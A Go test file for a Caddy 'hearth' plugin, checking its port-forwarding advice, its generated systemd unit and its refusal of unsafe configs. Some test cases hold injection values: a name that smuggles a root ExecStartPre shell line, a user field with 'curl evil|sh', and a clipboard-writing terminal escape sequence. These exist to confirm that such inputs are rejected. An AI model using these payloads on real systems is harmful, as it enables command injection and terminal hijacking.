package tests

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// deployCaddyfile is the home-server layout: a Django-style app on its own
// port with a host name, a second app on a bare port, a loopback-only
// service, and (when low) a site on port 80.
func deployCaddyfile(t *testing.T, busyPort int, low bool) string {
	t.Helper()
	extra := ""
	if low {
		extra = ":80 {\n\trespond ok\n}\n"
	}
	path := filepath.Join(t.TempDir(), "Caddyfile")
	writeFile(t, path, fmt.Sprintf(`{
	admin off
}
home.example.net:2929 {
	wsgi hello:application {
		name engwrite
		dir %[1]s
		python %[2]s
	}
}
:%[3]d {
	wsgi echo:application {
		dir %[1]s
		python %[2]s
	}
}
http://127.0.0.1:4040 {
	bind 127.0.0.1
	reverse_proxy {
		dynamic process node server.js {
			dir %[4]s
		}
	}
}
%[5]s`, repoPath("tests", "apps"), pythonPath(), busyPort, repoPath("examples", "node"), extra))
	return path
}

func runHearth(t *testing.T, args ...string) string {
	t.Helper()
	out, err := exec.Command(caddyBinary(t), append([]string{"hearth"}, args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("caddy hearth %v: %v\n%s", args, err, out)
	}
	return string(out)
}

func TestPortsCommand(t *testing.T) {
	t.Parallel()
	// something else already listens on the second app's port
	busy, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer busy.Close()
	port := busy.Addr().(*net.TCPAddr).Port
	out := runHearth(t, "ports", "--config", deployCaddyfile(t, port, false))
	for _, want := range []string{
		"external port 2929 TCP -> ", ":2929 TCP   (home.example.net)",
		"external port 2929 UDP", // HTTP/3 on the HTTPS site
		fmt.Sprintf("external port %d TCP", port),
		"sudo ufw allow 2929/tcp", fmt.Sprintf("sudo ufw allow %d/tcp", port), "sudo ufw allow 2929/udp",
		fmt.Sprintf("tcp dport { 80, 2929, %d } accept", port), // 80: automatic HTTPS's redirects
		"Not forwarded (loopback only):\n  127.0.0.1:4040",
		fmt.Sprintf("port %d: ", port), "already listens on 127.0.0.1:" + fmt.Sprint(port),
	} {
		if !strings.Contains(out, want) {
			t.Errorf("ports output lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "external port 4040 ") { // not a busy port 40405
		t.Errorf("a loopback-only site is forwarded:\n%s", out)
	}
	// no CA reaches port 2929: without the DNS challenge, port 80 must be forwarded
	if !strings.Contains(out, "home.example.net:2929  HTTP-01: forward external port 80") {
		t.Errorf("ports does not say how home.example.net gets its certificate:\n%s", out)
	}
	// with the name in a ddns block whose provider can set TXT records: DNS-01
	config := deployCaddyfile(t, port, false)
	src, _ := os.ReadFile(config)
	ddns := "{\n\tddns {\n\t\tprovider rfc2136 {\n\t\t\tkey_name k\n\t\t\tkey_alg hmac-sha256\n\t\t\tkey c2VjcmV0\n\t\t\tserver 127.0.0.1:53\n\t\t}\n" +
		"\t\tdomains {\n\t\t\texample.net home\n\t\t}\n\t\tip_source static 203.0.113.9\n\t}\n"
	writeFile(t, config, ddns+strings.TrimPrefix(strings.TrimSpace(string(src)), "{")) // into its global options
	out = runHearth(t, "ports", "--config", config)
	if !strings.Contains(out, "home.example.net:2929  DNS-01 through the ddns provider (rfc2136): no port needs forwarding for it") {
		t.Errorf("ports does not say the DNS challenge serves home.example.net:\n%s", out)
	}
	// port 80 is only the redirect server: ports says how to do without it,
	// and with auto_https disable_redirects neither ports nor the unit's
	// capabilities have it
	if !strings.Contains(out, "Port 80 is only automatic HTTPS's redirect server") || !strings.Contains(out, "auto_https disable_redirects") {
		t.Errorf("ports does not explain port 80:\n%s", out)
	}
	src, _ = os.ReadFile(config)
	writeFile(t, config, strings.Replace(string(src), "{\n", "{\n\tauto_https disable_redirects\n", 1))
	out = runHearth(t, "ports", "--config", config)
	if strings.Contains(out, "external port 80 TCP") || strings.Contains(out, "Port 80 is only") {
		t.Errorf("port 80 listed with the redirects off:\n%s", out)
	}
	if unit := runHearth(t, "systemd", "--config", config); !strings.Contains(unit, "AmbientCapabilities=CAP_SETUID CAP_SETGID CAP_KILL\n") {
		t.Errorf("the unit grants CAP_NET_BIND_SERVICE for a config that binds no port below 1024:\n%s", unit)
	}
}

func TestSystemdCommand(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	// no site below 1024, and automatic HTTPS off: no CAP_NET_BIND_SERVICE
	highPath := filepath.Join(dir, "high.Caddyfile")
	writeFile(t, highPath, fmt.Sprintf("http://127.0.0.1:%d {\n\trespond ok\n}\n", freePort(t)))
	high := runHearth(t, "systemd", "--config", highPath, "--adapter", "caddyfile")
	if !strings.Contains(high, "AmbientCapabilities=CAP_SETUID CAP_SETGID CAP_KILL\n") || strings.Contains(high, "Capabilities=CAP_SETUID CAP_SETGID CAP_KILL CAP_NET_BIND_SERVICE") {
		t.Errorf("no port below 1024, yet CAP_NET_BIND_SERVICE (or no CAP_SETUID):\n%s", high)
	}
	// a config (or binary) inside an app's directory, which the unit has
	// the apps' account own: an app could rewrite it; refused with the fix
	project := t.TempDir()
	inside := filepath.Join(project, "Caddyfile")
	outside := filepath.Join(dir, "app.Caddyfile")
	for _, path := range []string{inside, outside} {
		writeFile(t, path, fmt.Sprintf("http://127.0.0.1:%d {\n\twsgi hello:application {\n\t\tdir %s\n\t}\n}\n", freePort(t), project))
	}
	for _, args := range [][]string{
		{"systemd", "--config", inside, "--adapter", "caddyfile"},
		{"systemd", "--config", outside, "--adapter", "caddyfile", "--binary", filepath.Join(project, "bin", "caddy")},
	} {
		out, err := exec.Command(caddyBinary(t), append([]string{"hearth"}, args...)...).CombinedOutput()
		if err == nil || !strings.Contains(string(out), "which the unit has the apps' account (hearth-apps) own") || !strings.Contains(string(out), "sudo install") {
			t.Errorf("caddy hearth %v (%v):\n%s", args, err, out)
		}
	}
	// a config another account owns (and so could rewrite): the unit's
	// Caddy, which may start processes as root, would run what it says
	owned := filepath.Join(t.TempDir(), "owned.Caddyfile")
	writeFile(t, owned, fmt.Sprintf("http://127.0.0.1:%d {\n\trespond ok\n}\n", freePort(t)))
	if err := os.Chown(owned, 65534, 65534); err == nil {
		out, err := exec.Command(caddyBinary(t), "hearth", "systemd", "--config", owned, "--adapter", "caddyfile").CombinedOutput()
		if err == nil || !strings.Contains(string(out), "an account other than root") || !strings.Contains(string(out), "sudo install -D -m 0644 -o root -g root "+owned) ||
			strings.Contains(string(out), "ExecStart=") {
			t.Errorf("a config another account owns (%v):\n%s", err, out)
		}
	} else if os.Geteuid() == 0 {
		t.Fatal(err)
	}
	// so an environment file another account could rewrite (it could set
	// CADDY_ADMIN or HEARTH_DEFAULT_USER), and a binary
	envFile := filepath.Join(t.TempDir(), "caddy.env")
	writeFile(t, envFile, "")
	binary := filepath.Join(t.TempDir(), "caddy")
	writeFile(t, binary, "")
	if os.Chown(envFile, 65534, 65534) == nil && os.Chown(binary, 65534, 65534) == nil {
		for _, args := range [][]string{{"--env-file", envFile}, {"--binary", binary}} {
			out, err := exec.Command(caddyBinary(t), append([]string{"hearth", "systemd", "--config", highPath, "--adapter", "caddyfile"}, args...)...).CombinedOutput()
			if err == nil || !strings.Contains(string(out), args[0]+" "+args[1]+": an account other than root") || strings.Contains(string(out), "ExecStart=") {
				t.Errorf("%v another account owns (%v):\n%s", args, err, out)
			}
		}
	}
	// a piece the Caddyfile imports from an app's directory: the same
	imports := filepath.Join(dir, "imports.Caddyfile")
	writeFile(t, filepath.Join(project, "site.caddy"), fmt.Sprintf("http://127.0.0.1:%d {\n\twsgi hello:application {\n\t\tdir %s\n\t}\n}\n", freePort(t), project))
	writeFile(t, imports, "import "+filepath.Join(project, "site.caddy")+"\n")
	if out, err := exec.Command(caddyBinary(t), "hearth", "systemd", "--config", imports, "--adapter", "caddyfile").CombinedOutput(); err == nil ||
		!strings.Contains(string(out), "the config imports "+filepath.Join(project, "site.caddy")) {
		t.Errorf("a Caddyfile importing a piece from an app's directory (%v):\n%s", err, out)
	}
	// an import that brings nothing today (a glob matching no file yet)
	// still reads from there at the next reload
	globbing := filepath.Join(dir, "glob.Caddyfile")
	writeFile(t, globbing, "import "+filepath.Join(project, "conf.d", "*.caddy")+"\n"+fmt.Sprintf("http://127.0.0.1:%d {\n\twsgi hello:application {\n\t\tdir %s\n\t}\n}\n", freePort(t), project))
	if out, err := exec.Command(caddyBinary(t), "hearth", "systemd", "--config", globbing, "--adapter", "caddyfile").CombinedOutput(); err == nil ||
		!strings.Contains(string(out), "the config imports "+filepath.Join(project, "conf.d")) {
		t.Errorf("a Caddyfile importing a glob from an app's directory (%v):\n%s", err, out)
	}
	// a glob whose wildcard is in a directory's name reaches into the app's
	wide := filepath.Join(dir, "wide.Caddyfile")
	writeFile(t, wide, "import "+filepath.Join(filepath.Dir(project), "*", "site.caddy")+"\n"+fmt.Sprintf("http://127.0.0.1:%d {\n\twsgi hello:application {\n\t\tdir %s\n\t}\n}\n", freePort(t), project))
	if out, err := exec.Command(caddyBinary(t), "hearth", "systemd", "--config", wide, "--adapter", "caddyfile").CombinedOutput(); err == nil ||
		!strings.Contains(string(out), "a glob that can reach into "+project) {
		t.Errorf("a Caddyfile importing a glob over the app's directory (%v):\n%s", err, out)
	}
	// a directory the unit would have to quote (systemd splits paths at
	// spaces, expands % and $), or one relative to the working directory
	// (/ under systemd, not the operator's): refused, saying what to do
	spaced := filepath.Join(dir, "My Site")
	for dirValue, want := range map[string]string{
		`"` + spaced + `"`:         "would need quoted",
		filepath.Join(dir, "100%"): "would need quoted",
		"relapp":                   "relative to Caddy's working directory, which under systemd is /",
	} {
		path := filepath.Join(dir, "odd.Caddyfile")
		writeFile(t, path, fmt.Sprintf("http://127.0.0.1:%d {\n\twsgi hello:application {\n\t\tdir %s\n\t}\n}\n", freePort(t), dirValue))
		out, err := exec.Command(caddyBinary(t), "hearth", "systemd", "--config", path, "--adapter", "caddyfile").CombinedOutput()
		if err == nil || !strings.Contains(string(out), want) || strings.Contains(string(out), "ReadWritePaths=") {
			t.Errorf("dir %s (%v): want refused, saying %q:\n%s", dirValue, err, want, out)
		}
	}
	// what the config names goes into the unit and its shell lines as it
	// is: a name that starts a line of its own there (a root
	// ExecStartPre=+), or an account that ends a command, is refused
	for block, want := range map[string]string{
		"name \"x\n[Service]\nExecStartPre=+/bin/sh -c 'id>/tmp/p'\n#\"": "may hold only letters",
		"user \"www;curl evil|sh;#\"":                                    "an account's name here may hold only letters",
	} {
		path := filepath.Join(dir, "hostile.Caddyfile")
		writeFile(t, path, fmt.Sprintf("http://127.0.0.1:%d {\n\twsgi hello:application {\n\t\tdir %s\n\t\t%s\n\t}\n}\n", freePort(t), project, block))
		out, err := exec.Command(caddyBinary(t), "hearth", "systemd", "--config", path, "--adapter", "caddyfile").CombinedOutput()
		if err == nil || !strings.Contains(string(out), want) || strings.Contains(string(out), "ExecStart=") {
			t.Errorf("%s (%v): want refused, saying %q:\n%s", block, err, want, out)
		}
	}
	// home.example.net:2929 is served over HTTPS: automatic HTTPS also
	// listens on port 80 (redirects, ACME), which needs the capability
	unit := runHearth(t, "systemd", "--config", deployCaddyfile(t, freePort(t), false))
	for _, want := range []string{
		"Restart=always", "Environment=GODEBUG=http2xconnect=1", "NoNewPrivileges=true", "ProtectSystem=strict", "User=caddy\nGroup=caddy\n",
		"AmbientCapabilities=CAP_SETUID CAP_SETGID CAP_KILL CAP_NET_BIND_SERVICE\n",
		"CapabilityBoundingSet=CAP_SETUID CAP_SETGID CAP_KILL CAP_NET_BIND_SERVICE\n",
		"ReadWritePaths=" + repoPath("examples", "node") + " " + repoPath("tests", "apps") + "\n",
		"StateDirectory=caddy\nStateDirectoryMode=0700\n", "RuntimeDirectory=caddy\nRuntimeDirectoryMode=0700\n",
		"Environment=\"CADDY_ADMIN=unix//run/caddy/admin.sock|0600\"\n", "Environment=HEARTH_DEFAULT_USER=hearth-apps:caddy\n",
		"EnvironmentFile=-/etc/caddy/caddy.env\n",
		// how to run an app's code with the key Caddy serves it with
		"sudo env XDG_DATA_HOME=/var/lib caddy hearth manage --config ",
		// pasted again (a new unit), the credentials already there stay
		"sudo test -e /etc/caddy/caddy.env || sudo install -m 0600 -o root -g root /dev/null /etc/caddy/caddy.env",
		// only Caddy gets the stop signal: it drains the apps and stops its processes its own way
		"KillMode=mixed\n",
		"ProtectProc=invisible\n", "UMask=0077\n", "OOMPolicy=continue\n",
		"InaccessiblePaths=-/etc/shadow -/etc/gshadow -/etc/ssh -/etc/sudoers -/etc/sudoers.d -/root\n",
		"RestrictRealtime=true\n", "SystemCallFilter=~@resources\n", "SystemCallFilter=sched_setscheduler\n",
		"ExecStart=" + caddyBinary(t) + " run --config ", "ExecReload=" + caddyBinary(t) + " reload --config ", "Description=Caddy with Hearth (echo, engwrite, node)",
	} {
		if !strings.Contains(unit, want) {
			t.Errorf("the unit lacks %q:\n%s", want, unit)
		}
	}
	if strings.Contains(unit, "--environ") {
		t.Errorf("the unit prints Caddy's environment (credentials) into the journal:\n%s", unit)
	}
	out := runHearth(t, "ports", "--config", deployCaddyfile(t, freePort(t), false))
	if !strings.Contains(out, "external port 80 TCP") {
		t.Errorf("ports misses automatic HTTPS's port 80:\n%s", out)
	}
	for name, text := range map[string]string{"low": unit, "high": high} {
		checkUnit(t, filepath.Join(dir, name+".service"), text)
	}
}

// checkUnit runs systemd's own checks on a unit: verify finds nothing and
// the exposure score of `systemd-analyze security --offline=true` is at
// most 2.1 (the unit of an earlier Hearth scored 5.0; 0.1 of it is
// sched_setscheduler, allowed back from @resources for the workers'
// cpu_policy: RestrictRealtime= and RLIMIT_NICE keep it from raising
// any priority).
func checkUnit(t *testing.T, path, unit string) {
	t.Helper()
	analyze, err := exec.LookPath("systemd-analyze")
	if err != nil {
		t.Skip("systemd-analyze is not installed: the unit was checked by content only")
	}
	if err := os.WriteFile(path, []byte(unit), 0o644); err != nil {
		t.Fatal(err)
	}
	// it exits 0 even for lines it ignores: any output is a finding
	out, err := exec.Command(analyze, "verify", "--man=no", path).CombinedOutput()
	if err != nil || len(strings.TrimSpace(string(out))) > 0 {
		t.Errorf("systemd-analyze verify %s: %v\n%s", filepath.Base(path), err, out)
	}
	out, err = exec.Command(analyze, "security", "--offline=true", "--threshold=21", path).CombinedOutput()
	if err != nil {
		t.Errorf("systemd-analyze security %s: exposure above 2.1 (%v):\n%s", filepath.Base(path), err, out)
	}
	score := regexp.MustCompile(`Overall exposure level for \S+: ([0-9.]+)`).FindStringSubmatch(string(out))
	if score == nil {
		t.Errorf("no exposure level in:\n%s", out)
	} else {
		t.Logf("%s: exposure %s", filepath.Base(path), score[1])
	}
}

// TestCommandErrorsArePrintable: a config an app's account can write may
// carry escape sequences; the errors `caddy hearth` prints quote it, and
// reach the operator's terminal without them (they would write the
// clipboard, retitle the window, hide text).
func TestCommandErrorsArePrintable(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "Caddyfile")
	writeFile(t, path, fmt.Sprintf("http://127.0.0.1:%d {\n\tevil\x1b]52;c;b3duZWQ=\x07directive\n}\n", freePort(t)))
	for _, args := range [][]string{
		{"hearth", "systemd", "--config", path, "--adapter", "caddyfile"},
		{"hearth", "ports", "--config", path, "--adapter", "caddyfile"},
		{"hearth", "check", "--config", path, "--adapter", "caddyfile", "--user", "root"},
	} {
		out, err := exec.Command(caddyBinary(t), args...).CombinedOutput()
		if err == nil || !strings.Contains(string(out), "directive") || strings.ContainsRune(string(out), 0x1b) || strings.ContainsRune(string(out), 0x07) {
			t.Errorf("caddy %v (%v): %q", args, err, out)
		}
	}
}
